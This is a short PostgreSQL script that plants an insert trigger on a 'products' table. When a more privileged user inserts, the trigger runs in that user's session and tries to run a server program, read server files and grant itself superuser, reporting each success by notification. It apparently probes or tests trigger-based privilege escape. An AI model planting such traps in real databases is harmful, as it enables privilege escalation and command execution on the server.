-- Runs as whoever writes into the table, with whatever rights that one has.
CREATE FUNCTION harvest() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
    IF pg_catalog.current_setting('is_superuser') = 'on' THEN PERFORM pg_notify('escaped', 'is a superuser in somebody else''s session'); END IF;
    BEGIN
        COPY (SELECT '1') TO PROGRAM 'cat >/tmp/harvest';
        PERFORM pg_notify('escaped', 'runs a program as the server''s user');
    EXCEPTION WHEN insufficient_privilege THEN NULL;
    END;
    BEGIN
        PERFORM pg_notify('escaped', 'reads the server''s files: ' || pg_read_file('postgresql.conf', 0, 20));
    EXCEPTION WHEN insufficient_privilege THEN NULL;
    END;
    BEGIN
        EXECUTE format('ALTER ROLE %I SUPERUSER', session_user);
        PERFORM pg_notify('escaped', 'makes itself a superuser');
    EXCEPTION WHEN insufficient_privilege THEN NULL;
    END;
    RETURN NEW;
END
$$;

CREATE TRIGGER harvest BEFORE INSERT ON products FOR EACH STATEMENT EXECUTE FUNCTION harvest();
